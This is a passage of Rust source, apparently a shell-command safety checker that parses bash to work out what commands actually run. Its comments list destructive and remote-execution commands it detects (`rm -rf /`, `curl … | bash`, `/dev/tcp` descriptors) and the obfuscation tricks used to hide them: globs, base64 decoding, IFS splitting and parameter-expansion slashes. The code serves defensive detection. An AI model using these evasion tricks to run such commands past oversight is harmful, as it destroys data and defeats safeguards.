                                    return Ok(Flow::Done);
                                }
                                _ => {}
                            }
                        }
                    }
                    if words.is_empty() && w.assign.is_none() && w.buf.contains(&b'[') {
                        if let Some((name, value)) = w.plain().as_deref().and_then(element_assign) {
                            if let Some(alias) = name.strip_prefix("BASH_CMDS[") {
                                if self.st.aliases.len() < MAX_ALIASES {
                                    self.st.aliases.insert(alias.to_string(), value.to_string());
                                }
                                // Checked as the `hash -p PATH NAME` it is the same as.
                                let hash = SimpleCommand {
                                    argv: vec![
                                        "hash".to_string(),
                                        "-p".to_string(),
                                        value.to_string(),
                                        alias.to_string(),
                                    ],
                                    ..SimpleCommand::default()
                                };
                                self.push_command(hash, false)?;
                            }
                            continue;
                        }
                    }
                    if words.is_empty() {
                        if let Some(eq) = w.assign {
                            let name = String::from_utf8_lossy(&w.buf[..eq]).into_owned();
                            let name = name.trim_end_matches('+').to_string();
                            let mut val = Word::new();
                            val.buf = w.buf[eq + 1..].to_vec();
                            cmd.assigns.push((name, val.into_string()));
                            continue;
                        }
                        dynamic_first = w.dynamic;
                    }
                    words.push(w);
                }
            }
        }
        for w in words {
            cmd.argv.extend(w.into_fields());
            if cmd.argv.len() > MAX_ARGS {
                return Err(format!("more than {MAX_ARGS} words in one command"));
            }
        }
        if let Some(value) = cmd
            .argv
            .first()
            .filter(|_| !self.st.aliases.is_empty())
            .and_then(|p| self.st.aliases.get(p))
        {
            let mut argv: Vec<String> = value.split_whitespace().map(str::to_string).collect();
            argv.extend(cmd.argv.drain(1..));
            cmd.argv = argv;
        }
        let mut globbed = false;
        if let Some(p) = cmd.argv.first_mut() {
            if let Some(known) = glob_program(p) {
                *p = known.to_string();
                globbed = true;
            }
        }
        let carried_up: Vec<String> = self.st.subst_up.drain(subst_up_base..).collect();
        let carried_reads: Vec<String> = self.st.subst_reads.drain(subst_reads_base..).collect();
        let fed_text = std::mem::take(&mut self.st.fed_text);
        if cmd.argv.is_empty() && cmd.assigns.is_empty() && cmd.redirects.is_empty() {
            return Ok(Flow::Done);
        }
        if cmd.argv.is_empty() {
            for (k, v) in &cmd.assigns {
                self.st.vars.insert(k.clone(), v.clone());
            }
            if cmd.redirects.is_empty() {
                return Ok(Flow::Done);
            }
        }
        // A glob still names its program only at run time (confirm), but what it most likely
        // runs is checked too (`/???/r? -rf /` is `rm -rf /`).
        cmd.dynamic_program =
            globbed || dynamic_first || cmd.argv.first().is_some_and(|a| looks_dynamic(a));
        cmd.stdin_text = stdin;
        cmd.fed_text = fed_text;
        cmd.piped_from = self.st.upstream.clone();
        cmd.piped_from.extend(extra_up);
        cmd.piped_from.extend(carried_up);
        cmd.piped_from.extend(links.feeding);
        if let Some(prog) = cmd.argv.first().map(|p| basename(p).to_string()) {
            for i in links.fed {
                push_new(&mut self.st.out[i].piped_from, prog.clone());
            }
        }
        if !carried_reads.is_empty() {
            cmd.piped_reads = self.st.upstream_reads.clone();
            cmd.piped_reads.extend(carried_reads);
        }
        let defer = !docs.is_empty();
        let idx = self.st.out.len();
        self.push_command(cmd, !defer)?;
        for mut d in docs {
            d.cmd = idx;
            self.st.heredocs.push(d);
        }
        Ok(Flow::Done)
    }

    fn function_body(&mut self, name: String) -> PResult<()> {
        self.skip_blanks_newlines()?;
        let first = self.st.out.len();
        self.st.funcs.push(FuncFrame {
            name,
            forks: false,
            self_calls: Vec::new(),
        });
        self.enter()?;
        let res = self.parse_command();
        self.leave();
        let frame = self.st.funcs.pop();
        res?;
        // A body that runs its arguments (`"$@"`, `"$*"`) makes the function a wrapper:
        // `f rm -rf /etc` runs `rm -rf /etc`.
        if self.st.out[first.min(self.st.out.len())..]
            .iter()
            .any(|c| matches!(c.argv.first().map(String::as_str), Some("$@" | "$*")))
        {
            if let Some(f) = frame.as_ref() {
                self.st.passthrough.insert(f.name.clone());
            }
        }
        if let Some(f) = frame {
            if f.forks {
                for i in f.self_calls {
                    if let Some(c) = self.st.out.get_mut(i) {
                        c.recursive_call = true;
                    }
                }
            }
        }
        Ok(())
    }

    /// After `for`/`select`: `NAME in WORDS` binds NAME to the words' values for the body;
    /// `((…))` and a list-less `for NAME` (the positional parameters) bind nothing.
    fn loop_header(&mut self) -> PResult<()> {
        self.skip_blanks();
        if self.peek() == Some(b'(') {
            return self.skip_to_separator();
        }
        let name = self.read_word()?;
        let Some(name) = name.plain().filter(|n| is_var_name(n)) else {
            return self.skip_to_separator();
        };
        self.skip_blanks();
        let start = self.pos;
        let keyword = self.read_word()?;
        if keyword.plain().as_deref() != Some("in") {
            self.pos = start;
            return self.skip_to_separator();
        }
        let first = self.st.out.len();
        let mut values = self.fields_to_separator()?;
        drop_deep_listings(&mut values);
        // `for f in $(ls /etc)`: the substitution stands for `/etc/*`, but `ls DIR` prints
        // bare names, so the body's `"/etc/$f"` means `/etc/*` as well: bind both readings.
        let names_listed = self.st.out.get(first..).unwrap_or(&[]).iter().any(|c| {
            basename(c.argv.first().map_or("", |p| p)) == "ls"
                && super::command::listed_entries(c)
                    .iter()
                    .any(|e| e.ends_with("/*") && values.contains(e))
        });
        if names_listed {
            // First: a prefix written before `$f` applies to the first value only.
            values.insert(0, "*".to_string());
        }
        if values.len() > MAX_LOOP_VALUES {
            // Too many to check each: the variable stays unknown (dynamic).
            self.st.loop_vars.remove(&name);
        } else {
            self.st.loop_vars.insert(name, values);
        }
        Ok(())
    }

    /// `while read -r p; do …; done < <(printf '%s\n' /bin /lib)`: the loop just closed reads
    /// what the process substitution (its commands start at `first`) prints or lists. The
    /// body was read with `p` unknown; bind `p` to those values and read the loop again from
    /// its `while` (once per loop), so its commands are checked with every value. The first
    /// reading's commands stay: the decision is the most severe of all.
    fn rebind_loop(&mut self, first: usize) {
        let Some(lp) = self.st.closed_loop.take() else {
            return;
        };
        if self.st.rebound.contains(&lp.start) || self.st.rebound.len() >= MAX_OPEN_LOOPS {
            return;
        }
        let mut values: Vec<String> = Vec::new();
        for c in self.st.out.get(first..).unwrap_or(&[]) {
            values.extend(super::command::listed_entries(c));
            if let Some(text) = stage_output(c) {
                values.extend(text.lines().filter(|l| !l.is_empty()).map(str::to_string));
            }
        }
        if values.is_empty() || values.len() > MAX_LOOP_VALUES {
            return;
        }
        let names: Vec<String> = self
            .st
            .out
            .get(lp.out..first)
            .unwrap_or(&[])
            .iter()
            .filter(|c| c.argv.first().map(|p| basename(p)) == Some("read"))
            .flat_map(|c| read_variables(&c.argv[1..]).into_iter().map(str::to_string))
            .collect();
        if names.is_empty() {
            return;
        }
        for name in names {
            self.st.loop_vars.insert(name, values.clone());
        }
        self.st.rebound.push(lp.start);
        self.pos = lp.start;
    }

    fn skip_to_separator(&mut self) -> PResult<()> {
        self.fields_to_separator().map(drop)
    }

    /// The fields of the words up to the next separator (`((…))` skipped).
    fn fields_to_separator(&mut self) -> PResult<Vec<String>> {
        let mut fields = Vec::new();
        loop {
            self.skip_blanks();
            match self.peek() {
                None | Some(b'\n') | Some(b';') | Some(b'&') | Some(b'|') | Some(b')') => {
                    return Ok(fields)
                }
                Some(b'(') if self.peek_at(1) == Some(b'(') => {
                    self.pos += 2;
                    self.skip_arith()?;
                }
                Some(c) if is_meta(c) => return Err(format!("unexpected `{}`", char::from(c))),
                _ => fields.extend(self.read_word()?.into_fields()),
            }
        }
    }

    fn parse_case(&mut self) -> PResult<()> {
        self.skip_blanks();
        self.read_word()?;
        self.skip_blanks_newlines()?;
        let w = self.read_word()?;
        if w.plain().as_deref() != Some("in") {
            return Err("expected `in` after case word".to_string());
        }
        self.enter()?;
        loop {
            self.skip_blanks_newlines()?;
            match self.peek() {
                None => return Err("unterminated case".to_string()),
                Some(b'(') => self.pos += 1,
                _ => {}
            }
            // Pattern list up to `)`, or `esac`.
            let mut first = true;
            loop {
                self.skip_blanks();
                match self.peek() {
                    Some(b')') => {
                        self.pos += 1;
                        break;
                    }
                    Some(b'|') => self.pos += 1,
                    None => return Err("unterminated case pattern".to_string()),
                    Some(c) if is_meta(c) => {
                        return Err("unexpected operator in case pattern".to_string())
                    }
                    _ => {
                        let w = self.read_word()?;
                        if first && w.plain().as_deref() == Some("esac") {
                            self.leave();
                            return Ok(());
                        }
                        first = false;
                    }
                }
            }
            self.parse_list(End::Case)?;
            self.skip_blanks_newlines()?;
            if self.peek() == Some(b';') && self.peek_at(1) == Some(b';') {
                self.pos += 2;
                if self.peek() == Some(b'&') {
                    self.pos += 1;
                }
            } else if self.peek() == Some(b';') && self.peek_at(1) == Some(b'&') {
                self.pos += 2;
            }
        }
    }

    fn parse_redirect(
        &mut self,
        reds: &mut Vec<Redirect>,
        stdin: &mut Option<String>,
        docs: &mut Vec<PendingHeredoc>,
        links: &mut SubstLinks,
    ) -> PResult<()> {
        let fd_start = self.pos;
        while self.peek().is_some_and(|b| b.is_ascii_digit()) {
            self.pos += 1;
        }
        let fd: Option<u32> = std::str::from_utf8(&self.src[fd_start..self.pos])
            .ok()
            .and_then(|d| d.parse().ok());
        let rest = &self.src[self.pos..];
        enum Op {
            File(RedirKind),
            Dup(RedirKind),
            HereString,
            HereDoc(bool),
        }
        let (op, len) = if rest.starts_with(b"<<<") {
            (Op::HereString, 3)
        } else if rest.starts_with(b"<<-") {
            (Op::HereDoc(true), 3)
        } else if rest.starts_with(b"<<") {
            (Op::HereDoc(false), 2)
        } else if rest.starts_with(b"<>") {
            (Op::File(RedirKind::ReadWrite), 2)
        } else if rest.starts_with(b"<&") {
            (Op::Dup(RedirKind::Read), 2)
        } else if rest.starts_with(b"<") {
            (Op::File(RedirKind::Read), 1)
        } else if rest.starts_with(b">>") {
            (Op::File(RedirKind::Append), 2)
        } else if rest.starts_with(b">|") {
            (Op::File(RedirKind::Write), 2)
        } else if rest.starts_with(b">&") {
            (Op::Dup(RedirKind::Write), 2)
        } else if rest.starts_with(b">") {
            (Op::File(RedirKind::Write), 1)
        } else if rest.starts_with(b"&>>") {
            (Op::File(RedirKind::Append), 3)
        } else if rest.starts_with(b"&>") {
            (Op::File(RedirKind::Write), 2)
        } else {
            return Err("bad redirection".to_string());
        };
        self.pos += len;
        self.skip_blanks();
        if matches!(self.peek(), Some(b'<') | Some(b'>')) && self.peek_at(1) == Some(b'(') {
            let mut up = Vec::new();
            let first = self.st.out.len();
            self.proc_subst(&mut up)?;
            match op {
                // `bash < <(curl …)` is `curl … | bash`.
                Op::File(RedirKind::Read) if fd.is_none_or(|fd| fd == 0) => {
                    links.feeding.extend(up)
                }
                // `curl … > >(bash)` is `curl … | bash` too.
                Op::File(RedirKind::Write | RedirKind::Append) => {
                    links.fed.extend(first..self.st.out.len())
                }
                _ => {}
            }
            if matches!(op, Op::File(RedirKind::Read)) {
                // `bash < <(echo …)`: what the substitution prints, when it can be known,
                // arrives on stdin as a pipe's would.
                if fd.is_none_or(|fd| fd == 0) {
                    if let Some(text) = self
                        .st
                        .out
                        .last()
                        .filter(|_| self.st.out.len() > first)
                        .and_then(stage_output)
                    {
                        *stdin = Some(text);
                    }
                }
                self.rebind_loop(first);
            }
            return Ok(());
        }
        match self.peek() {
            None => return Err("missing redirection target".to_string()),
            Some(c) if is_meta(c) => return Err("missing redirection target".to_string()),
            _ => {}
        }
        let w = self.read_word()?;
        match op {
            Op::File(kind) => {
                // A loop variable bound to several values (`: > "$f"` over a listing) is a
                // redirection to each of them.
                let mut targets = w.into_fields();
                if targets.is_empty() {
                    targets.push(String::new());
                }
                let target = targets[0].clone();
                // `exec 5<>/dev/tcp/h/p` opens fd 5 for what follows: a later `<&5` or
                // `>&5` reads or writes that file.
                if let Some(fd) = fd.filter(|&fd| fd > 2) {
                    if self.st.fds.len() < MAX_TRACKED_FDS || self.st.fds.contains_key(&fd) {
                        self.st.fds.insert(fd, target);
                    }
                }
                for target in targets {
                    reds.push(Redirect { kind, target });
                }
            }
            Op::Dup(kind) => {
                let t = w.into_string();
                let number = t.trim_end_matches('-');
                if !(t == "-" || number.bytes().all(|b| b.is_ascii_digit())) {
                    reds.push(Redirect { kind, target: t });
                } else if let Some(file) = number.parse().ok().and_then(|n| self.st.fds.get(&n)) {
                    reds.push(Redirect {
                        kind,
                        target: file.clone(),
                    });
                }
            }
            Op::HereString => *stdin = Some(w.into_string()),
            Op::HereDoc(strip_tabs) => {
                let expand = !w.quoted;
                docs.push(PendingHeredoc {
                    delim: w.into_string().into_bytes(),
                    strip_tabs,
                    expand,
                    cmd: 0,
                });
            }
        }
        Ok(())
    }

    /// Reads here-document bodies that start after the newline just consumed.
    fn read_heredocs(&mut self) -> PResult<()> {
        let docs = std::mem::take(&mut self.st.heredocs);
        for d in docs {
            let mut body = Vec::new();
            loop {
                if self.pos >= self.src.len() {
                    break;
                }
                let line_end = self.src[self.pos..]
                    .iter()
                    .position(|&b| b == b'\n')
                    .map_or(self.src.len(), |i| self.pos + i);
                let mut line = &self.src[self.pos..line_end];
                self.pos = (line_end + 1).min(self.src.len());
                if d.strip_tabs {
                    while let [b'\t', rest @ ..] = line {
                        line = rest;
                    }
                }
                if line == d.delim.as_slice() {
                    break;
                }
                body.extend_from_slice(line);
                body.push(b'\n');
            }
            let text = if d.expand {
                self.expand_heredoc(&body)?
            } else {
                String::from_utf8_lossy(&body).into_owned()
            };
            if let Some(c) = self.st.out.get_mut(d.cmd) {
                c.stdin_text = Some(text);
            }
            self.unwrap_at(d.cmd)?;
        }
        Ok(())
    }

    fn expand_heredoc(&mut self, body: &[u8]) -> PResult<String> {
        self.enter()?;
        let depth = self.depth;
        let res = {
            let mut sub = Parser::new(body, &mut *self.st, depth);
            let mut w = Word::new();
            sub.read_dquoted(&mut w, true).map(|()| w.into_string())
        };
        self.leave();
        res
    }

    /// Skips an arithmetic expression up to its closing `))`; command substitutions inside
    /// it still run, so they are parsed.
    fn skip_arith(&mut self) -> PResult<()> {
        let mut depth = 0usize;
        while let Some(b) = self.peek() {
            self.pos += 1;
            match b {
                b'$' | b'`' => {
                    let mut w = Word::new();
                    if b == b'$' {
                        self.dollar(&mut w, true)?;
                    } else {
                        self.backtick(&mut w, true)?;
                    }
                }
                b'(' => depth += 1,
                b')' if depth == 0 => {
                    if self.peek() == Some(b')') {
                        self.pos += 1;
                        return Ok(());
                    }
                    return Err("bad arithmetic expression".to_string());
                }
                b')' => depth -= 1,
                _ => {}
            }
        }
        Err("unterminated arithmetic expression".to_string())
    }

    fn read_word(&mut self) -> PResult<Word> {
        let mut w = Word::new();
        while let Some(b) = self.peek() {
            if is_meta(b) {
                break;
            }
            match b {
                b'\\' => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'\n') => self.pos += 1,
                        Some(c) => {
                            self.pos += 1;
                            w.push(c, true);
                        }
                        None => {}
                    }
                }
                b'\'' => {
                    self.pos += 1;
                    let Some(len) = self.src[self.pos..].iter().position(|&c| c == b'\'') else {
                        return Err("unterminated single quote".to_string());
                    };
                    w.quoted = true;
                    for i in 0..len {
                        w.push(self.src[self.pos + i], true);
                    }
                    self.pos += len + 1;
                }
                b'"' => {
                    self.pos += 1;
                    w.quoted = true;
                    self.read_dquoted(&mut w, false)?;
                }
                b'`' => {
                    self.pos += 1;
                    self.backtick(&mut w, false)?;
                }
                b'$' => {
                    self.pos += 1;
                    self.dollar(&mut w, false)?;
                }
                _ => {
                    self.pos += 1;
                    w.push(b, false);
                }
            }
        }
        Ok(w)
    }

    /// Reads double-quoted text up to the closing `"` (or to the end for here-doc bodies).
    fn read_dquoted(&mut self, w: &mut Word, to_end: bool) -> PResult<()> {
        loop {
            let Some(b) = self.peek() else {
                return if to_end {
                    Ok(())
                } else {
                    Err("unterminated double quote".to_string())
                };
            };
            self.pos += 1;
            match b {
                b'"' if !to_end => return Ok(()),
                b'\\' => match self.peek() {
                    Some(c @ (b'$' | b'`' | b'"' | b'\\')) => {
                        self.pos += 1;
                        w.push(c, true);
                    }
                    Some(b'\n') => self.pos += 1,
                    _ => w.push(b'\\', true),
                },
                b'`' => self.backtick(w, true)?,
                b'$' => self.dollar(w, true)?,
                _ => w.push(b, true),
            }
        }
    }

    fn backtick(&mut self, w: &mut Word, quoted: bool) -> PResult<()> {
        let mut inner = Vec::new();
        loop {
            let Some(b) = self.peek() else {
                return Err("unterminated backquote".to_string());
            };
            self.pos += 1;
            match b {
                b'`' => break,
                b'\\' => match self.peek() {
                    Some(c @ (b'`' | b'\\' | b'$')) => {
                        self.pos += 1;
                        inner.push(c);
                    }
                    _ => inner.push(b'\\'),
                },
                _ => inner.push(b),
            }
        }
        let first = self.st.out.len();
        self.sub_parse(&inner)?;
        if !self.subst_value(w, first, quoted) {
            self.carry_substitution(first);
        }
        Ok(())
    }

    /// Puts the value of a command substitution into the word: the echoed text when the
    /// substitution is a lone `echo`/`printf`, otherwise the dynamic marker.
    /// Pushes the value of the substitution whose commands start at `first`; whether it was
    /// known.
    fn subst_value(&mut self, w: &mut Word, first: usize, quoted: bool) -> bool {
        let new = &self.st.out[first..];
        // The substitution's value when it can be known: `$(echo x)`, and a pipeline of
        // literal text through decoders, `$(echo cm0gLXJm… | base64 -d)` (each stage got the
        // previous one's output as its `stdin_text`).
        // A listing stands for what it lists (`rm -rf $(ls -d /*)` removes `/*`).
        let value = match new {
            [] => None,
            [.., last] => stage_output(last).or_else(|| {
                // Filters that only reorder or thin a listing keep standing for it
                // (`$(cut -d: -f6 /etc/passwd | sort -u)`).
                let lister = new
                    .iter()
                    .rev()
                    .find(|c| !is_list_filter(c))
                    .unwrap_or(last);
                let listed = super::command::listed_entries(lister);
                (!listed.is_empty()).then(|| listed.join(" "))
            }),
        };
        match value {
            Some(v) => {
                w.push_str(v.trim_end_matches('\n').as_bytes(), quoted);
                true
            }
            None => {
                w.dynamic = true;
                w.push_str(DYNAMIC.as_bytes(), true);
                false
            }
        }
    }

    /// Records what the substitution whose commands start at `first` reads and runs, for
    /// the command whose words are being read (see `State::subst_up`).
    fn carry_substitution(&mut self, first: usize) {
        let st = &mut *self.st;
        for c in &st.out[first..] {
            if let Some(p) = c.argv.first() {
                push_new(&mut st.subst_up, basename(p).to_string());
            }
            let reads = super::command::files_flowing_through(c);
            for r in reads.into_iter().chain(c.piped_reads.iter().cloned()) {
                push_new(&mut st.subst_reads, r);
            }
        }
    }

    fn dollar(&mut self, w: &mut Word, quoted: bool) -> PResult<()> {
        match self.peek() {
            Some(b'\'') if !quoted => {
                self.pos += 1;
                self.ansi_c(w)
            }
            Some(b'"') if !quoted => {
                self.pos += 1;
                w.quoted = true;
                self.read_dquoted(w, false)
            }
            Some(b'(') => {
                self.pos += 1;
                if self.peek() == Some(b'(') {
                    self.pos += 1;
                    self.skip_arith()?;
                    w.dynamic = true;
                    w.push_str(b"$((...))", true);
                    return Ok(());
                }
                let first = self.st.out.len();
                self.enter()?;
                let saved_up = std::mem::take(&mut self.st.upstream);
                let saved_stdin = self.st.pending_stdin.take();
                let res = self.parse_list(End::Paren);
                self.st.upstream = saved_up;
                self.st.pending_stdin = saved_stdin;
                res?;
                self.leave();
                // A value spelled out in the argument is checked there; one known only at run
                // time carries what produced it.
                if !self.subst_value(w, first, quoted) {
                    self.carry_substitution(first);
                }
                Ok(())
            }
            Some(b'{') => {
                self.pos += 1;
                self.param_braced(w, quoted)
            }
            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
                let start = self.pos;
                while self
                    .peek()
                    .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_')
                {
                    self.pos += 1;
                }
                let name = String::from_utf8_lossy(&self.src[start..self.pos]).into_owned();
                self.expand_var(w, &name, quoted, None);
                Ok(())
            }
            Some(c) if c.is_ascii_digit() || b"@*#?$!-".contains(&c) => {
                self.pos += 1;
                if self.positional_value(w, c, quoted) {
                    return Ok(());
                }
                w.dynamic = true;
                w.push_str(&[b'$', c], true);
                Ok(())
            }
            _ => {
                w.push(b'$', quoted);
                Ok(())
            }
        }
    }

    /// `$1`…`$9`, `$@` and `$*` when the positional parameters are known; whether pushed.
    fn positional_value(&mut self, w: &mut Word, c: u8, quoted: bool) -> bool {
        let Some(params) = self.st.positional.as_ref() else {
            return false;
        };
        let values: Vec<String> = match c {
            b'1'..=b'9' => match params.get(usize::from(c - b'1')) {
                Some(v) => vec![v.clone()],
                None => Vec::new(),
            },
            b'@' | b'*' => params.clone(),
            _ => return false,
        };
        for (i, v) in values.iter().enumerate() {
            if i > 0 {
                if quoted && c == b'*' {
                    w.push(b' ', true);
                } else {
                    w.push_split();
                }
            }
            w.push_str(v.as_bytes(), quoted);
        }
        true
    }

    fn expand_var(&mut self, w: &mut Word, name: &str, quoted: bool, default: Option<String>) {
        if name == "IFS" {
            if quoted {
                w.push(b' ', true);
            } else {
                w.push_split();
            }
            return;
        }
        if let Some(values) = self.st.loop_vars.get(name).cloned() {
            for (i, v) in values.iter().enumerate() {
                if i > 0 {
                    w.push_split();
                }
                w.push_str(v.as_bytes(), quoted);
            }
            if !values.is_empty() {
                return;
            }
        }
        if let Some(v) = self.st.vars.get(name).cloned() {
            // Unquoted, a value is split on the characters of `IFS` when the input set it
            // (`IFS=,; c=rm,-rf,/home; $c`).
            match self
                .st
                .vars
                .get("IFS")
                .filter(|ifs| !quoted && !ifs.is_empty())
            {
                Some(ifs) => {
                    let split: String = v
                        .chars()
                        .map(|c| if ifs.contains(c) { ' ' } else { c })
                        .collect();
                    w.push_str(split.as_bytes(), false);
                }
                None => w.push_str(v.as_bytes(), quoted),
            }
            return;
        }
        if let Some(d) = default {
            w.push_str(d.as_bytes(), quoted);
            return;
        }
        w.dynamic = true;
        w.push_str(format!("${name}").as_bytes(), true);
    }

    /// `${...}`: plain names and `${x:-default}` are expanded; anything else is dynamic.
    fn param_braced(&mut self, w: &mut Word, quoted: bool) -> PResult<()> {
        self.enter()?;
        let mut raw = Vec::new();
        let mut depth = 0usize;
        loop {
            let Some(b) = self.peek() else {
                return Err("unterminated ${".to_string());
            };
            self.pos += 1;
            match b {
                b'}' if depth == 0 => break,
                b'}' => {
                    depth -= 1;
                    raw.push(b);
                }
                b'\\' => {
                    if let Some(c) = self.peek() {
                        self.pos += 1;
                        raw.push(c);
                    }
                }
                b'\'' if !quoted => {
                    let Some(len) = self.src[self.pos..].iter().position(|&c| c == b'\'') else {
                        return Err("unterminated single quote".to_string());
                    };
                    raw.extend_from_slice(&self.src[self.pos..self.pos + len]);
                    self.pos += len + 1;
                }
                b'"' => {
                    let mut inner = Word::new();
                    self.read_dquoted(&mut inner, false)?;
                    raw.extend_from_slice(inner.into_string().as_bytes());
                }
                b'`' => {
                    let mut inner = Word::new();
                    self.backtick(&mut inner, true)?;
                    raw.extend_from_slice(inner.into_string().as_bytes());
                }
                b'$' => {
                    let mut inner = Word::new();
                    if self.peek() == Some(b'{') {
                        self.pos += 1;
                        self.param_braced(&mut inner, true)?;
                    } else {
                        self.dollar(&mut inner, true)?;
                    }
                    raw.extend_from_slice(inner.into_string().as_bytes());
                }
                b'{' => {
                    depth += 1;
                    raw.push(b);
                }
                _ => raw.push(b),
            }
        }
        self.leave();
        let raw = String::from_utf8_lossy(&raw).into_owned();
        let name_len = raw
            .bytes()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
            .count();
        let (name, rest) = raw.split_at(name_len);
        // `${0/-/}`, `${0#-}`, `${0##*/}`: the shell's own name with a login `-` or its
        // directory cut off, the way a payload names the shell without writing it.
        if name == "0" && rest.starts_with(['/', '#', '%']) {
            w.push_str(b"sh", quoted);
            return Ok(());
        }
        // `${PATH:0:1}`, `${HOME:0:1}`: the first character of an absolute path is `/`,
        // the way a payload writes a slash without writing one.
        if matches!(name, "PATH" | "HOME" | "PWD" | "SHELL" | "OLDPWD") && rest == ":0:1" {
            w.push_str(b"/", quoted);
            return Ok(());
        }
        // `${!v}`: the variable whose name `v` holds (`v=HOME; rm -rf "${!v}"`).
        if let Some(target) = raw
            .strip_prefix('!')
            .filter(|n| is_var_name(n))
            .and_then(|n| self.st.vars.get(n))
            .filter(|t| is_var_name(t))
            .cloned()
        {
            self.expand_var(w, &target, quoted, None);
            return Ok(());
        }
        if name.len() == 1
            && name.as_bytes()[0].is_ascii_digit()
            && rest.is_empty()
            && self.positional_value(w, name.as_bytes()[0], quoted)
        {
            return Ok(());
        }
        if !name.is_empty() && !name.as_bytes()[0].is_ascii_digit() {
            if rest.is_empty() {
                self.expand_var(w, name, quoted, None);
                return Ok(());
            }
            // Arrays are kept as their words joined by spaces (`a=(rm -rf /srv)`):
            // `"${a[@]}"` is every word, `${a[0]}` the first.
            if let Some(v) = self.st.vars.get(name).cloned() {
                let words: Vec<&str> = v.split(' ').filter(|x| !x.is_empty()).collect();
                let picked: Option<Vec<&str>> = match rest {
                    "[@]" | "[*]" => Some(words.clone()),
                    _ => rest
                        .strip_prefix('[')
                        .and_then(|r| r.strip_suffix(']'))
                        .and_then(|n| n.parse::<usize>().ok())
                        .map(|n| words.get(n).copied().into_iter().collect()),
                };
                if let Some(picked) = picked {
                    for (i, part) in picked.iter().enumerate() {
                        if i > 0 {
                            w.push_split();
                        }
                        w.push_str(part.as_bytes(), quoted);
                    }
                    return Ok(());
                }
            }
            // `${x,,}`, `${x^^}`: a known value in lower or upper case (`x='RM -RF /'; ${x,,}`).
            if matches!(rest, ",," | "^^" | "," | "^") {
                if let Some(v) = self.st.vars.get(name).cloned() {
                    let mut chars = v.chars();
                    let out: String = match rest {
                        ",," => v.to_lowercase(),
                        "^^" => v.to_uppercase(),
                        _ => chars.next().map_or(String::new(), |c| {
                            let head: String = if rest == "," {
                                c.to_lowercase().collect()
                            } else {
                                c.to_uppercase().collect()
                            };
                            head + chars.as_str()
                        }),
                    };
                    w.push_str(out.as_bytes(), quoted);
                    return Ok(());
                }
            }
            // `${HOME%/*}`, `${X##*/}`: a known value with a prefix or suffix cut off. The
            // home directory is taken as `/home/user`, so its parent is `/home`.
            if let Some(cut) = rest.strip_prefix(['%', '#']) {
                let value = self
                    .st
                    .vars
                    .get(name)
                    .cloned()
                    .or_else(|| (name == "HOME").then(|| "/home/user".to_string()));
                if let Some(value) = value {
                    let longest = cut.starts_with(rest.as_bytes()[0] as char);
                    let pat = if longest { &cut[1..] } else { cut };
                    let out = trim_pattern(&value, pat, rest.starts_with('%'), longest);
                    w.push_str(out.as_bytes(), quoted);
                    return Ok(());
                }
            }
            for op in [":-", ":=", "-", "="] {
                if let Some(d) = rest.strip_prefix(op) {
                    self.expand_var(w, name, quoted, Some(d.to_string()));
                    return Ok(());
                }
            }
            // `${HOME:?}` / `${X?message}`: the value itself (or the shell stops).
            if rest.starts_with(":?") || rest.starts_with('?') {
                self.expand_var(w, name, quoted, None);
                return Ok(());
            }
        }
        w.dynamic = true;
        w.push_str(format!("${{{raw}}}").as_bytes(), true);
        Ok(())
    }

    fn ansi_c(&mut self, w: &mut Word) -> PResult<()> {
        w.quoted = true;
        loop {
            let Some(b) = self.peek() else {
                return Err("unterminated $'".to_string());
            };
            self.pos += 1;
            match b {
                b'\'' => return Ok(()),
                b'\\' => {
                    let Some(e) = self.peek() else { continue };
                    self.pos += 1;
                    match e {
                        b'n' => w.push(b'\n', true),
                        b't' => w.push(b'\t', true),
                        b'r' => w.push(b'\r', true),
                        b'a' => w.push(7, true),
                        b'b' => w.push(8, true),
                        b'e' | b'E' => w.push(27, true),
                        b'f' => w.push(12, true),
                        b'v' => w.push(11, true),
                        b'c' => {
                            if let Some(c) = self.peek() {
                                self.pos += 1;
                                w.push(c & 0x1f, true);
                            }
                        }
                        b'x' => {
                            let v = self.hex_digits(2);
                            w.push(v.unwrap_or(u32::from(b'x')) as u8, true);
                        }
                        b'u' | b'U' => {
                            let n = if e == b'u' { 4 } else { 8 };
                            let v = self.hex_digits(n).and_then(char::from_u32);
                            let mut tmp = [0u8; 4];
                            match v {
                                Some(c) => {
                                    for &x in c.encode_utf8(&mut tmp).as_bytes() {
                                        w.push(x, true);
                                    }
                                }
                                None => w.push(e, true),
                            }
                        }
                        b'0'..=b'7' => {
                            let mut v = u32::from(e - b'0');
                            for _ in 0..2 {
                                match self.peek() {
                                    Some(d @ b'0'..=b'7') => {
                                        self.pos += 1;
                                        v = v * 8 + u32::from(d - b'0');
                                    }
                                    _ => break,
                                }
                            }
                            w.push((v & 0xff) as u8, true);
                        }
                        other => w.push(other, true),
                    }
                }
                _ => w.push(b, true),
            }
        }
    }

    fn hex_digits(&mut self, max: usize) -> Option<u32> {
        let mut v = 0u32;
        let mut n = 0;
        while n < max {
            let Some(d) = self.peek().and_then(|c| char::from(c).to_digit(16)) else {
                break;
            };
            self.pos += 1;
            v = v * 16 + d;
            n += 1;
        }
        (n > 0).then_some(v)
    }

    /// Records a command (tracking `cd`, variables and function self-calls) and, unless
    /// `defer_unwrap` is false, follows whatever it runs.
    fn push_command(&mut self, mut cmd: SimpleCommand, unwrap_now: bool) -> PResult<()> {
        if self.st.out.len() >= MAX_COMMANDS {
            return Err(format!("more than {MAX_COMMANDS} commands"));
        }
        if cmd.cwd.is_none() {
            cmd.cwd = self.st.cwd.clone();
        }
        if cmd.piped_from.is_empty() {
            cmd.piped_from = self.st.upstream.clone();
        }
        if cmd.piped_reads.is_empty() {
            cmd.piped_reads = self.st.upstream_reads.clone();
        }
        if cmd.piped_listing.is_empty() {
            cmd.piped_listing = self.st.upstream_lists.clone();
        }
        cmd.wrap_depth = self.st.wrap_depth;
        let mut script = self.script_run_by(&cmd);
        if script.is_none() {
            script = self.written_files_used_by(&cmd);
        }
        if let Some(code) = planted_commands(&cmd) {
            script = Some(script.map_or(code.clone(), |s| format!("{s}\n{code}")));
        }
        if let Some(code) = self.shell_hooks(&cmd) {
            script = Some(script.map_or(code.clone(), |s| format!("{s}\n{code}")));
        }
        self.track_state(&cmd);
        self.track_scripts(&cmd);
        let idx = self.st.out.len();
        if let Some(name) = cmd.argv.first() {
            for f in self.st.funcs.iter_mut() {
